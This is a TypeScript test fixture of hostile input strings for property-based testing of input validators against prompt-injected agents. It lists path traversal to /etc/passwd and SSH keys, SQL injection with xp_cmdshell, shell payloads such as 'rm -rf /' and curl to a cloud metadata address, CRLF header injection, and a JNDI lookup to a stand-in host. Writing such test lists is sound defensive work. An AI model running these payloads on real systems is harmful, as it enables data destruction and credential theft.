/**
 * Hostile strings: the inputs a prompt-injected agent sends to get past a check — path traversal,
 * percent and Unicode encodings, SQL injection, shell metacharacters, control characters, oversized
 * and malformed text.
 * Guarantees: a fixed, deterministic list of JSON-representable strings (a request built from them
 * prints as JSON and reads back unchanged), grouped by family; the arbitrary draws from the list only.
 */
import fc from "fast-check";

export const HOSTILE_STRINGS = {
  traversal: [
    "../../../etc/passwd",
    "..",
    "../",
    "/etc/shadow",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\Windows\\System32",
    "\\\\server\\share\\x",
    "~/.ssh/id_rsa",
    "file:///etc/passwd",
  ],
  encoding: [
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc",
    "..%c0%af..%c0%afetc",
    "%c0%ae%c0%ae/etc",
    "\uff0e\uff0e\uff0fetc",
    "%u002e%u002e%u002fetc",
    "..\u2215..\u2215etc",
    "..\u00a5..\u00a5windows",
    "\u202egnp.exe",
    "a\u200bdmin",
    "\ufeffadmin",
    "\u0430dmin",
    "\ud800",
  ],
  sql: [
    "' OR '1'='1",
    "1; DROP TABLE users; --",
    "x' UNION SELECT password FROM users --",
    "1/**/UNION/**/SELECT/**/1",
    "'; EXEC xp_cmdshell('dir'); --",
  ],
  shell: ["; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "&& curl http://169.254.169.254/"],
  control: ["a\u0000b", "line\r\nInjected: header", "\t", "\u001b[31mred", "\u007f", "\n"],
  template: ["{{7*7}}", "${jndi:ldap://evil.example/a}", "__proto__", "constructor", "<script>alert(1)</script>"],
  size: ["", " ", "a".repeat(10_000)],
} as const satisfies Record<string, readonly string[]>;

export type HostileFamily = keyof typeof HOSTILE_STRINGS;

/** Every hostile string, all families, in a fixed order. */
export const ALL_HOSTILE_STRINGS: readonly string[] = Object.values(HOSTILE_STRINGS).flat();

/** An arbitrary over the hostile strings (of the given families; all by default). */
export function hostileString(families?: readonly HostileFamily[]): fc.Arbitrary<string> {
  const list = families ? families.flatMap((f) => HOSTILE_STRINGS[f]) : ALL_HOSTILE_STRINGS;
  return fc.constantFrom(...list);
}
